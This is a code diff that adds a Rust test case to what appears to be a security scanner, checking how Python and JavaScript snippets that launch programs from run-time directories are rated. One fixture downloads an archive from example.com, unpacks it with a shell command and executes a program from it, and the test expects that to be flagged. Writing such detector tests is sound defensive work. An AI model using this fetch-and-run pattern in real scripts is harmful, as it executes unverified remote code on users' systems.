@@ -3134,6 +3134,58 @@ fn throwaway_repositories_and_nested_git_directories() {
     check_all(rows);
 }
 
+/// A program known by its file name in a directory found at run time (a virtual environment's
+/// `bin/python`) is judged as that program, unless the script fetched something to disk; a
+/// comment between the items of an argument tuple is no item.
+#[test]
+fn programs_in_run_time_directories_and_commented_tuples() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, subprocess, sys\nsubprocess.run([os.path.join(sys.argv[1], 'bin', 'python'), 'tools/x.py'])\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os, subprocess, sys\nsubprocess.run([os.path.join(sys.argv[1], sys.argv[2])])\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import os, subprocess, sys\nsubprocess.run([os.path.join(sys.argv[1], 'bin', 'tool')])\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import subprocess\ncmd = (\n    # fmt: off\n    'git', 'ls-files', '--others',\n    # fmt: on\n)\nprint(subprocess.check_output(cmd, text=True))\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nconst path = require('path');\ncp.execFileSync(path.join(process.argv[2], 'node_modules', '.bin', 'node'), ['build.js']);\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+    // After a download to disk the unpacked directory may hold a program of any name.
+    let fetched = crate::review(
+        Py,
+        "import os, subprocess, sys, urllib.request\nurllib.request.urlretrieve('https://example.com/t.tgz', 't.tgz')\nos.system('tar xzf t.tgz -C ' + sys.argv[2])\nsubprocess.run([os.path.join(sys.argv[2], 'python')])\n",
+    );
+    assert!(
+        fetched
+            .findings
+            .iter()
+            .any(|f| f.line == 4 && f.rule == "unknown-exec"),
+        "{fetched:#?}"
+    );
+}
+
 fn check_all(rows: &[(Language, &str, Verdict, &str)]) {
     let mut failed = Vec::new();
     for &(lang, code, verdict, category) in rows {
